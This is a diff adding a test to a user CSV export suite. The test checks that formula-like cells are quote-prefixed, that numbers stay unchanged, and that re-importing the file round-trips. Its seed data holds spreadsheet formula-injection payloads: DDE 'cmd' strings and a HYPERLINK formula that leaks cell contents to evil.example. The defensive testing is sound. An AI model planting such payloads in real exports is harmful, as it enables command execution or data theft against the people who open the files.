@@ -186,6 +186,101 @@ describe.each(testDialects())('users export on %s', (dialect) => {
     expect(rowsOf(await (await get(`/exports/users.csv?filter=${json}`)).text()).map((r) => r.email)).toEqual([`p0.${stem}@export.example.org`]);
   });
 
+  it("puts a ' before cells a spreadsheet would read as formulas, not before numbers; imported back, the values are the same", async () => {
+    // Names anyone can give themselves (sign-up, the request form), and values staff or partners type.
+    const fx = `fx${stem.slice(2)}`;
+    const admin = app.as(app.admin);
+    expect((await admin('mutation { createUserField(input: { key: "balance", title: "Balance", type: DECIMAL }) { id } }')).errors).toBeUndefined();
+    const people = [
+      {
+        name: `+cmd|' /C calc'!A0`,
+        email: `a.${fx}@export.example.org`,
+        phone: '+1 415 555 2671',
+        notes: `-2+3+cmd|' /C calc'!A0`,
+        alias: '+1)*cmd',
+        tags: ['=1+2', 'vip'],
+        fields: [
+          { key: 'plan', value: '=1+2' },
+          { key: 'balance', value: '-3.5' },
+        ],
+      },
+      {
+        name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        email: `b.${fx}@export.example.org`,
+        phone: '+33612345678',
+        notes: "'=already quoted, as typed",
+        alias: '@SUM(A1:A9)',
+        details: '-3.5',
+        fields: [
+          { key: 'plan', value: "'=1+2" },
+          { key: 'bio', value: '-one\n=two' },
+        ],
+      },
+      { name: "'=Quoted Name", email: `c.${fx}@export.example.org`, notes: "''@twice", fields: [{ key: 'balance', value: '-0.000001' }] },
+    ];
+    for (const [i, p] of people.entries()) {
+      const r = await app.gql('mutation($i: CreateUserInput!) { createUser(input: $i) { user { id } } }', {
+        i: { ...p, externalId: `FX-${fx}-${i}` },
+      });
+      expect(r.errors, p.name).toBeUndefined();
+    }
+    const read = async () => {
+      const r = await app.gql(
+        'query($q: String) { users(query: $q, first: 10) { edges { node { name email phone notes alias details tags fields { key value } } } } }',
+        { q: fx },
+      );
+      expect(r.errors).toBeUndefined();
+      return (r.data.users.edges as { node: any }[]).map((e) => e.node).sort((a, b) => a.email.localeCompare(b.email));
+    };
+    const stored = await read();
+    expect(stored.map((u) => u.name)).toEqual(people.map((p) => p.name));
+
+    const res = await get(`/exports/users.csv?query=${fx}`);
+    expect(res.status).toBe(200);
+    const text = await res.text();
+    const rows = rowsOf(text).sort((a, b) => a.email.localeCompare(b.email));
+    expect(rows).toHaveLength(3);
+    // In the file: formulas behind a quote, in every column; numbers and phone numbers as they are.
+    expect(rows[0]).toMatchObject({
+      name: `'+cmd|' /C calc'!A0`,
+      phone: '+14155552671',
+      notes: `'-2+3+cmd|' /C calc'!A0`,
+      alias: `'+1)*cmd`,
+      tags: `'=1+2 vip`,
+      'custom_fields.plan': `'=1+2`,
+      'custom_fields.balance': '-3.5',
+    });
+    expect(rows[1]).toMatchObject({
+      name: `'=HYPERLINK("https://evil.example/?x="&A1,"Click")`,
+      phone: '+33612345678',
+      notes: "''=already quoted, as typed",
+      alias: `'@SUM(A1:A9)`,
+      details: '-3.5',
+      'custom_fields.plan': "''=1+2",
+      'custom_fields.bio': `'-one\n=two`,
+    });
+    expect(rows[2]).toMatchObject({ name: "''=Quoted Name", notes: "'''@twice", 'custom_fields.balance': '-0.000001' });
+    for (const r of rows) for (const [column, cell] of Object.entries(r)) expect(cell, column).not.toMatch(/^[=@\t\r]|^[+-](?![0-9 .()-]+$)/);
+
+    // Imported back as it is: nothing changes.
+    expect(await importFile(app, text, { mode: 'CREATE_OR_UPDATE' })).toMatchObject({ status: 'DONE', unchanged: 3, updated: 0, failed: 0 });
+    // Changed in the meantime, then imported back in UPDATE mode (empty cells clear): the file's values return exactly.
+    for (const u of stored) {
+      const id = (await app.gql('query($e: String!) { userByEmail(email: $e) { id } }', { e: u.email })).data.userByEmail.id;
+      const r = await app.gql('mutation($id: ID!, $i: UpdateUserInput!) { updateUser(id: $id, input: $i) { id } }', {
+        id,
+        i: { name: 'Changed', notes: 'changed', alias: 'changed', tags: ['changed'], fields: [{ key: 'plan', value: 'changed' }] },
+      });
+      expect(r.errors).toBeUndefined();
+    }
+    expect((await read()).map((u) => u.name)).toEqual(['Changed', 'Changed', 'Changed']);
+    expect(await importFile(app, text, { mode: 'UPDATE', blankCellsClear: 'true' })).toMatchObject({ status: 'DONE', updated: 3, failed: 0 });
+    const back = await read();
+    expect(back).toEqual(stored);
+    expect(back[1]).toMatchObject({ notes: "'=already quoted, as typed", fields: expect.arrayContaining([{ key: 'plan', value: "'=1+2" }]) });
+    expect(back[2].name).toBe("'=Quoted Name");
+  });
+
   it('asks for staff or a token with USERS_READ, and refuses bad parameters before writing anything', async () => {
     expect((await get('/exports/users.csv', { kind: 'anonymous' })).status).toBe(401);
     const endUser = await app.person('END_USER');
